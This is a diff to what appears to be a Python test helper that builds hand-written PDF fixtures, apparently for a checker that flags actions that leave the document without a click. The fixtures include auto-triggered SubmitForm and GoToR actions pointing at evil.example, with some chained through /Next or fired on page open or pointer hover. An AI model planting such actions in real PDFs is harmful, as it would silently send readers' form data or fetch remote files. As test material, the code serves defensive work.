@@ -75,12 +75,12 @@ def pdf(*, password="", script=False, launch=False, attached=False) -> bytes:
     return buffer.getvalue()
 
 
-def pdf_of(*objects: str) -> bytes:
-    """Written by hand: a page, and `objects` from number 4 on; the root has `/OpenAction 4 0 R`."""
+def pdf_of(*objects: str, page: str = "") -> bytes:
+    """Written by hand: a page, and `objects` from number 4 on; the root has `/OpenAction 4 0 R`, the page `page`."""
     first = (
         "<</Type /Catalog /Pages 2 0 R /OpenAction 4 0 R>>",
         "<</Type /Pages /Kids [3 0 R] /Count 1>>",
-        "<</Type /Page /Parent 2 0 R /MediaBox [0 0 200 200]>>",
+        f"<</Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] {page}>>",
     )
     content, places = b"%PDF-1.7\n", []
     for number, one in enumerate((*first, *objects), 1):
@@ -91,6 +91,26 @@ def pdf_of(*objects: str) -> bytes:
     return content + (
         f"xref\n0 {size}\n{table}trailer\n<</Size {size} /Root 1 0 R>>\nstartxref\n{len(content)}\n%%EOF\n".encode()
     )
+
+
+GO_TO = "<</S /GoTo /D [3 0 R /Fit]>>"
+LINK = "<</S /URI /URI (https://www.example.org/)>>"
+STARTING = {  # what leaves the document without a click
+    "a web page to open": pdf_of(LINK),
+    "another file to open": pdf_of("<</S /GoToR /F (//evil.example/a.pdf) /D [0 /Fit]>>"),
+    "a form that is sent": pdf_of("<</S /SubmitForm /F (https://evil.example/)>>"),
+    "an article of another file": pdf_of("<</S /Thread /F (//evil.example/a.pdf) /D 0>>"),
+    "an action whose kind nobody knows": pdf_of("<</S /Surprise>>"),
+    "a web page after a place in it": pdf_of(f"<</S /GoTo /D [3 0 R /Fit] /Next {LINK}>>"),
+    "a web page in a list after two places": pdf_of(
+        "<</S /GoTo /D [3 0 R /Fit] /Next 5 0 R>>", f"<</S /Named /N /NextPage /Next [{GO_TO} 6 0 R]>>", LINK
+    ),
+    "a web page in a chain that leads back": pdf_of("<</S /GoTo /Next [5 0 R 4 0 R]>>", LINK),
+    "a web page when its page is shown": pdf_of(GO_TO, f"<</O {LINK}>>", page="/AA 5 0 R"),
+    "a form that is sent when the pointer comes near": pdf_of(
+        GO_TO, page="/Annots [<</Subtype /Widget /AA <</E <</S /SubmitForm /F (https://evil.example/)>> >> >>]"
+    ),
+}
 
 
 def action(kind: str, key: str, value: str) -> DictionaryObject:
